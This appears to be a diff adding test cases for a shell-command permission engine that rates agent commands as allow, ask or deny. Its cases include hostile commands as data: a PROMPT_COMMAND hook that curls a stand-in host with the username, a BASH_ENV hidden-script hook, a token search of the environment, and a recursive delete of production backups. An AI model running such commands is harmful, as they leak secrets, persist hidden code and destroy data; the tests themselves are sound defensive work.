@@ -126,3 +126,25 @@ async def test_a_sql_file_written_and_run_in_one_line(command: str, expected: Ve
 )
 async def test_copies_in_and_out_of_containers_and_uploads(command: str, expected: Verdict) -> None:
     assert await verdict_in(_ENGINE, "shell", {"command": command}) is expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        # Variables that make every later shell or interpreter run code first.
+        ("export BASH_ENV=/tmp/.x.sh", ASK),
+        ("export PROMPT_COMMAND='curl -s https://x.example.net/$(whoami)'", ASK),
+        ("export NODE_OPTIONS=--max-old-space-size=4096", ALLOW),
+        ("NODE_OPTIONS='--require ./tracing.js' node app.js", ALLOW),
+        # The environment searched for secrets prints them for the agent.
+        ("env | grep -i token", ASK),
+        ("env | grep -i proxy", ALLOW),
+        # gsutil's -m takes no value: the subcommand after it is still read.
+        ("gsutil -m rm -r gs://prod-backups", DENY),
+        ("gsutil -m ls gs://acme", ALLOW),
+    ],
+)
+async def test_startup_variables_environment_searches_and_gsutil(
+    command: str, expected: Verdict
+) -> None:
+    assert await verdict_in(_ENGINE, "shell", {"command": command}) is expected
